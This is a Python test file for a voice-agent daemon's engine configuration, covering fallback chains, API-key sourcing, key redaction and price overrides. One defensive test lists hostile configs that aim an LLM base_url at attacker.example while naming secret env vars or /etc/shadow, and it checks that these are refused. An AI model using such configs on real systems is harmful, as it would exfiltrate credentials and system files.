"""Agent YAML for cloud engines: engine names, key sources, fallback chains, prices."""

from __future__ import annotations

from pathlib import Path

import pytest
from pydantic import ValidationError

from voxd.agents.schema import OUTBOUND, AgentConfig
from voxd.core.secrets import DeclaredSecret, Outbound, SecretBook
from voxd.providers import factory
from voxd.providers.base import ProviderError
from voxd.providers.fakes import FakeLLM, FakeSTT, FakeTTS
from voxd.providers.fallback import FallbackLLM, FallbackSTT, FallbackTTS, bind_call
from voxd.providers.llm.factory import make_llm
from voxd.providers.llm.openai_compat import OpenAICompatibleLLM
from voxd.providers.llm.openai_sdk import OpenAILLM
from voxd.providers.pricing import ProviderMetric
from voxd.providers.stt.deepgram import DeepgramSTT
from voxd.providers.tts.elevenlabs import ElevenLabsTTS


def agent(**kw: object) -> AgentConfig:
    return AgentConfig.model_validate({"name": "a", **kw})


def test_old_single_blocks_still_load_and_mean_no_fallback() -> None:
    a = agent(stt={"engine": "whisper"}, llm={"engine": "dialog"}, voice={"engine": "espeak"})
    assert a.stt.fallback == [] and a.llm.fallback == [] and a.voice.fallback == []


def test_list_form_is_a_fallback_chain() -> None:
    a = agent(stt=[{"engine": "deepgram", "model": "nova-2"}, {"engine": "whisper"}],
              voice=[{"engine": "elevenlabs", "voice_id": "v1"}, {"engine": "piper"}],
              llm={"engine": "openai", "fallback": [{"engine": "dialog"}]})
    assert (a.stt.engine, [f.engine for f in a.stt.fallback]) == ("deepgram", ["whisper"])
    assert (a.voice.engine, [f.engine for f in a.voice.fallback]) == ("elevenlabs", ["piper"])
    assert [f.engine for f in a.llm.fallback] == ["dialog"]


@pytest.mark.parametrize("bad", [
    {"stt": {"engine": "deepgram", "api_key_env": "sk-live-1234"}},  # a key pasted where a name goes
    {"stt": {"engine": "deepgram", "api_key": "abc"}},  # no place for a key in YAML at all
    {"voice": {"engine": "elevenlabs"}},  # needs a voice_id
    {"stt": [{"engine": "deepgram", "fallback": [{"engine": "whisper", "fallback": [{"engine": "whisper"}]}]}]},
    {"stt": []},
])
def test_rejected(bad: dict[str, object]) -> None:
    with pytest.raises(ValidationError) as e:
        agent(**bad)
    assert "sk-live-1234" not in "".join(err["msg"] for err in e.value.errors())


def test_keys_come_from_declared_secrets_and_never_show(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    factory.clear_cache()
    monkeypatch.setenv("MY_DG", "dg-from-env")
    (tmp_path / "el.key").write_text("xi-from-file\n")
    out = Outbound(secrets=SecretBook({
        "dg": DeclaredSecret("dg", ("api.deepgram.com",), env="MY_DG"),
        "el": DeclaredSecret("el", ("api.elevenlabs.io",), file=str(tmp_path / "el.key")),
        "deepgram": DeclaredSecret("deepgram", ("api.deepgram.com",), env="DEEPGRAM_API_KEY")}))
    a = agent(stt={"engine": "deepgram", "api_key_secret": "dg"},
              # the old spelling still works when a declared secret reads that file
              voice={"engine": "elevenlabs", "voice_id": "v1", "api_key_file": str(tmp_path / "el.key")})
    stt, tts = factory.make_stt(a.stt, out), factory.make_tts(a.voice, out)
    assert isinstance(stt, DeepgramSTT) and stt._key.reveal() == "dg-from-env" and stt.options.model == "nova-3"
    assert isinstance(tts, ElevenLabsTTS) and tts._key.reveal() == "xi-from-file" and tts.sample_rate == 16000
    assert "dg-from-env" not in repr(stt) + repr(vars(stt)) and "xi-from-file" not in repr(tts) + repr(vars(tts))
    monkeypatch.delenv("DEEPGRAM_API_KEY", raising=False)
    with pytest.raises(ProviderError, match=r"set \$DEEPGRAM_API_KEY"):
        factory.make_stt(agent(stt={"engine": "deepgram", "model": "nova-2"}).stt, out)


def test_an_agent_cannot_send_a_secret_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 2: an engine block naming an arbitrary variable, or a declared secret with a
    base_url of its choosing, gets no key: refused at validation (with the daemon's rules)
    and at build time (without them)."""
    factory.clear_cache()
    monkeypatch.setenv("VOXD_TRUNK_PASSWORD", "trunk-pw")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live")
    hostile = [
        {"engine": "openai-compatible", "base_url": "http://attacker.example/v1", "api_key_env": "VOXD_TRUNK_PASSWORD"},
        {"engine": "openai-compatible", "base_url": "http://attacker.example/v1", "api_key_secret": "openai"},
        {"engine": "openai", "base_url": "http://attacker.example/v1", "api_key_env": "OPENAI_API_KEY"},
        {"engine": "openai-compatible", "base_url": "http://attacker.example/v1", "api_key_file": "/etc/shadow"},
    ]
    for llm in hostile:
        with pytest.raises(ValidationError) as e:
            AgentConfig.model_validate({"name": "x", "llm": llm}, context={OUTBOUND: Outbound()})
        assert [err["loc"][0] for err in e.value.errors()] == ["llm"], e.value
        with pytest.raises(ProviderError):
            OpenAICompatibleLLM(agent(llm=llm).llm) if llm["engine"] != "openai" else OpenAILLM(agent(llm=llm).llm)
    # without a named secret, the vendor's own key goes only to the vendor's host
    plain = OpenAICompatibleLLM(agent(llm={"engine": "openai-compatible", "base_url": "http://attacker.example/v1"}).llm)
    assert plain._api_key == ""
    sdk = OpenAILLM(agent(llm={"engine": "openai", "base_url": "http://attacker.example/v1"}).llm)
    assert sdk._key.reveal() == ""
    assert OpenAILLM(agent(llm={"engine": "openai"}).llm)._key.reveal() == "sk-live"


def test_factories_build_chains_and_skip_an_engine_without_key(monkeypatch: pytest.MonkeyPatch) -> None:
    factory.clear_cache()
    monkeypatch.delenv("DEEPGRAM_API_KEY", raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-x")
    a = agent(stt=[{"engine": "deepgram"}, {"engine": "fake"}],
              llm=[{"engine": "openai"}, {"engine": "fake", "options": {"steps": ["hi"]}}],
              voice=[{"engine": "fake"}, {"engine": "fake", "options": {"sample_rate": 8000}}])
    stt, llm, tts = factory.make_stt(a.stt), make_llm(a), factory.make_tts(a.voice)
    assert isinstance(stt, FallbackSTT) and [type(p) for p in stt.providers] == [FakeSTT]  # no Deepgram key: left out
    assert isinstance(llm, FallbackLLM) and [type(p) for p in llm.providers] == [OpenAILLM, FakeLLM]
    assert isinstance(tts, FallbackTTS) and [type(p) for p in tts.providers] == [FakeTTS, FakeTTS]


def test_prices_from_yaml_override_the_table() -> None:
    a = agent(llm={"engine": "openai", "base_url": "http://127.0.0.1:9/v1",
                   "prices": {"prompt_tokens": 1e-3, "completion_tokens": 2e-3}})
    md: dict[str, object] = {}
    _, _llm, _, usage = bind_call(FakeSTT(), make_llm(a), FakeTTS(), metadata=md)
    usage.add(ProviderMetric("llm", "openai", 120.0, 300.0, {"prompt_tokens": 100, "completion_tokens": 10}))
    assert md["usage"]["cost_usd"] == {"openai": 0.12, "total": 0.12}  # type: ignore[index]
